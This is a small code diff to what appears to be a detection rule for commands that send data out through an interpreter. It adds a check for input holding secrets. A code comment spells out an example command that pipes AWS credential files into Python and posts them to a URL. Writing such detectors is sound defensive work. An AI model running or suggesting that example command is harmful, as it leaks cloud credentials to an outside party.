@@ -1,5 +1,5 @@
 import { isWhitespace } from '../is-whitespace.js';
-import { commandAt, EXE_SUFFIX } from './anchored-command.js';
+import { commandAt, EXE_SUFFIX, inputHoldsSecrets } from './anchored-command.js';
 import { isCollectorHost, secretVariableScore } from './exfiltration-hosts.js';
 import { type CodeFacts, codeFacts } from './interpreter-code.js';
 import {
@@ -94,6 +94,8 @@ export const INTERPRETER_EXFILTRATION_RULE: PayloadRule = {
     const facts = codeFacts(program.code, program.modules);
     if (!facts.sends) return undefined;
     if (facts.readsSecrets) return 0.9;
+    // `cat ~/.aws/credentials | python3 -c "…requests.post(URL, data=sys.stdin.read())"`.
+    if (facts.readsStdin && inputHoldsSecrets(anchored)) return 0.9;
     return variableScore(facts);
   },
 };
